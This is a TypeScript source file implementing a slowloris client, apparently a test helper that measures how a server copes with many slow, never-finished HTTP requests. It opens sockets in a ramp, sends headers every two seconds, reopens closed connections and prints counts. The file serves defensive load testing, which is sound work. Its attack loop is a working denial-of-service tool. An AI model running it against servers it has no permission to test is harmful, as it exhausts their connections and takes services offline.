import net from 'node:net';

/**
 * A slowloris, as its own process (so its churn does not share the test's event loop with the listener it is
 * measured against). Opens `sockets` connections from `localAddress`, sends a request line and headers a line every
 * 2 s, never the blank line that ends them, and reopens each a second after the server closes it; at most `maxOpens`
 * connections in all, for at most `durationMs`. Prints `ramped` once all are opened, and its counts as one JSON line
 * on stdout when it ends (after `durationMs`, or on SIGTERM).
 * argv: port host localAddress sockets maxOpens durationMs
 */
const [port, host, localAddress, sockets, maxOpens, durationMs] = process.argv.slice(2) as [string, string, string, string, string, string];
const stats = { opens: 0, answers: {} as Record<string, number>, closedSilently: 0, open: 0, maxOpen: 0, longestMs: 0 };
const live = new Set<net.Socket>();
let stopped = false;

function open(): void {
	if (stopped || stats.opens >= Number(maxOpens)) return;
	stats.opens++;
	const socket = net.connect({ port: Number(port), host, localAddress });
	const openedAt = performance.now();
	let answer = '';
	let connected = false;
	live.add(socket);
	socket.on('connect', () => {
		connected = true;
		stats.open++;
		stats.maxOpen = Math.max(stats.maxOpen, stats.open);
		socket.write(`GET /s/${Math.random().toString(36).slice(2)} HTTP/1.1\r\nHost: ${host}\r\n`);
	});
	socket.on('data', (chunk: Buffer) => {
		answer ||= chunk.toString('latin1').split('\r\n')[0]!;
	});
	socket.on('error', () => {});
	socket.on('close', () => {
		live.delete(socket);
		if (connected) stats.open--;
		stats.longestMs = Math.max(stats.longestMs, performance.now() - openedAt);
		if (answer) stats.answers[answer] = (stats.answers[answer] ?? 0) + 1;
		else if (!stopped) stats.closedSilently++;
		if (!stopped) setTimeout(open, 1000).unref();
	});
}

let line = 0;
const trickle = setInterval(() => {
	line++;
	for (const socket of live) if (socket.readyState === 'open') socket.write(`X-Slow-${line}: aaaaaaaa\r\n`);
}, 2000);
// 200 every 100 ms: the ramp is the attacker's, not a burst into the kernel's accept queue.
let started = 0;
const ramp = setInterval(() => {
	for (let i = 0; i < 200 && started < Number(sockets); i++, started++) open();
	if (started >= Number(sockets)) {
		clearInterval(ramp);
		process.stdout.write('ramped\n');
	}
}, 100);

function stop(): void {
	if (stopped) return;
	stopped = true;
	clearInterval(ramp);
	clearInterval(trickle);
	for (const socket of live) socket.destroy();
	// Let the closes above count (longestMs) before reporting.
	setImmediate(() => {
		process.stdout.write(`${JSON.stringify(stats)}\n`);
		process.exit(0);
	});
}
setTimeout(stop, Number(durationMs));
process.on('SIGTERM', stop);
